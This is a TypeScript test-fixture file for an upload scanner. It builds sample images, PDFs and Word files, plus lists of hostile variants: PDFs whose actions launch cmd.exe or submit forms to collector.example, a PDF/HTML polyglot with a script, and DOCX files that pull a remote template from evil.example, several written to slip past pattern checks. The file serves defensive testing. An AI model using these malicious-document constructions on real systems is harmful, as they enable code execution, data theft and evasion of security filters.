/**
 * Real files for the upload tests: uploads are parsed and decoded (security/file-content.ts), so a PNG
 * header followed by filler is no longer an image. The images are 8×8 pixels written by sharp; the PDFs are
 * built here object by object, with a correct cross-reference table, so each variant differs from the clean
 * one only in what it adds.
 */
import { CFB } from 'xlsx';

export const PNG_8 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAACXBIWXMAAAPoAAAD6AG1e1JrAAAAEUlEQVQImWNQWpWGFTEMLQkA03tMgVCBU+YAAAAASUVORK5CYII=', 'base64');
export const JPEG_8 = Buffer.from(
  '/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAT/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABAf/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCcAJOH/9k=',
  'base64',
);

export interface PdfParts {
  /** Added to the catalog dictionary (`/OpenAction 4 0 R`, `/Names << … >>`). */
  catalog?: string;
  /** Added to the page dictionary (`/Annots [4 0 R]`). */
  page?: string;
  /** Objects 4, 5, … (their bodies, without `n 0 obj` / `endobj`). */
  extra?: string[];
  /** Text right after the header line (a comment, say). */
  afterHeader?: string;
  /** Bytes after the final `%%EOF`. */
  trailing?: string;
}

/** A one-page PDF that pdf.js opens, plus whatever `parts` adds. */
export function pdf(parts: PdfParts = {}): Buffer {
  const content = 'BT /F1 12 Tf 20 100 Td (Identity document) Tj ET';
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R ${parts.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents ${4 + (parts.extra?.length ?? 0)} 0 R ${parts.page ?? ''} >>`,
    ...(parts.extra ?? []),
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  ];
  let out = `%PDF-1.4\n${parts.afterHeader ?? ''}`;
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n${parts.trailing ?? ''}`;
  return Buffer.from(out, 'latin1');
}

/** The penetration test's file: it starts like a PDF and is an HTML page. */
export const PDF_HTML_POLYGLOT = Buffer.from('%PDF-1.4\n<html><body><script>fetch("/api/user/profile").then((r) => r.text()).then(alert)</script></body></html>\n%%EOF\n');


const DOCX_TYPES = (extra = '') =>
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
  `${extra}</Types>`;

/**
 * A minimal Word package (.docx, a zip written by SheetJS' CFB) with a document part, plus or instead of what
 * `parts` says (a part's value `null` leaves it out).
 */
export function docx(parts: Record<string, string | Buffer | null> = {}): Buffer {
  const all: Record<string, string | Buffer | null> = {
    '[Content_Types].xml': DOCX_TYPES(),
    '_rels/.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml': '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Identity document</w:t></w:r></w:p></w:body></w:document>',
    ...parts,
  };
  const container = CFB.utils.cfb_new();
  for (const [name, body] of Object.entries(all)) if (body !== null) CFB.utils.cfb_add(container, name, typeof body === 'string' ? Buffer.from(body) : body);
  return Buffer.from(CFB.write(container, { fileType: 'zip', type: 'buffer', compression: true }) as Uint8Array);
}
export const docxTypes = DOCX_TYPES;

/** A Word 97–2003 document (.doc): an OLE compound file with a WordDocument stream (unless `word` is false), plus the streams `extra` names. */
export function doc(extra: string[] = [], { word = true } = {}): Buffer {
  const container = CFB.utils.cfb_new();
  if (word) CFB.utils.cfb_add(container, '/WordDocument', Buffer.alloc(4096, 1));
  CFB.utils.cfb_add(container, '/1Table', Buffer.alloc(1024, 2));
  for (const name of extra) CFB.utils.cfb_add(container, name, Buffer.alloc(600, 3));
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
}

/**
 * PDFs whose actions launch, import or submit something, each placed where a viewer runs it without a script:
 * the catalogue's /OpenAction and /AA, a page's /AA, an outline item, a form field, the end of a /Next chain.
 */
export const ACTIVE_PDFS: [string, Buffer][] = [
  ['the catalogue’s /OpenAction launching a program', pdf({ catalog: '/OpenAction 4 0 R', extra: ['<< /S /Launch /F (cmd.exe) >>'] })],
  ['a launch spelled with a name escape (/L#61unch)', pdf({ catalog: '/OpenAction << /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>' })],
  ['the catalogue’s /AA importing form data', pdf({ catalog: '/AA << /WC << /S /ImportData /F (data.fdf) >> >>' })],
  ['a page’s /AA submitting the form', pdf({ page: '/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >> >>' })],
  ['an outline item opening another file (/GoToR)', pdf({ catalog: '/Outlines 4 0 R', extra: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>', '<< /Title (Open) /Parent 4 0 R /A << /S /GoToR /F (//server/share/x.pdf) /D [0 /Fit] >> >>'] })],
  ['an outline item to a file: address', pdf({ catalog: '/Outlines 4 0 R', extra: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>', '<< /Title (Open) /Parent 4 0 R /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>'] })],
  ['a link to a javascript: address', pdf({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>'] })],
  ['a launch at the end of a /Next chain', pdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>' })],
  ['a form field submitting', pdf({ catalog: '/AcroForm << /Fields [4 0 R] >>', extra: ['<< /FT /Btn /T (send) /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://collector.example/) >> >>'] })],
  ['an embedded go-to (/GoToE)', pdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (payload) >> >>' })],
];

/** PDFs with actions that stay inside the document or go to the web: taken. */
export const PASSIVE_PDFS: [string, Buffer][] = [
  ['a go-to inside the document on open', pdf({ catalog: '/OpenAction [3 0 R /Fit]' })],
  ['an outline item to a web page', pdf({ catalog: '/Outlines 4 0 R', extra: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>', '<< /Title (Site) /Parent 4 0 R /A << /S /URI /URI (https://www.example.com/) >> >>'] })],
  ['a go-to another document on the web', pdf({ catalog: '/OpenAction << /S /GoToR /F << /FS /URL /F (https://www.example.com/a.pdf) >> /D [0 /Fit] >>' })],
];

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const rels = (body: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS_NS}">${body}</Relationships>`;

/** Word documents that fetch something from outside the file when opened, each written so a pattern would miss it. */
export const REMOTE_DOCX: [string, Buffer, 'active-content' | 'unreadable'][] = [
  ['a template relation in single quotes', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id='rId9' Type='${REL}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>`) }), 'active-content'],
  ['spaces around the equals signs', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId9" Type = "${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode = "External" />`) }), 'active-content'],
  ['External written as a character reference', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>`) }), 'active-content'],
  ['the relations under a namespace prefix', docx({ 'word/_rels/settings.xml.rels': `<?xml version="1.0"?><r:Relationships xmlns:r="${RELS_NS}"><r:Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></r:Relationships>` }), 'active-content'],
  ['the relations in UTF-16', docx({ 'word/_rels/settings.xml.rels': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels(`<Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`).replace('UTF-8', 'UTF-16'), 'utf16le')]) }), 'active-content'],
  ['a picture linked from outside', docx({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId5" Type="${REL}/image" Target="https://tracker.example/p.png" TargetMode="External"/>`) }), 'active-content'],
  ['a frame of another page', docx({ 'word/_rels/webSettings.xml.rels': rels(`<Relationship Id="rId1" Type="${REL}/frame" Target="https://evil.example/" TargetMode="External"/>`) }), 'active-content'],
  ['a macro-enabled content type written with a character reference', docx({ '[Content_Types].xml': docxTypes('<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>') }), 'active-content'],
  ['relations with a DOCTYPE', docx({ 'word/_rels/settings.xml.rels': `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]><Relationships xmlns="${RELS_NS}"><Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&e;"/></Relationships>` }), 'unreadable'],
  ['relations that are not well-formed XML', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId9" Type="${REL}/attachedTemplate" TargetMode=External Target="https://evil.example/t.dotm"/>`) }), 'unreadable'],
];
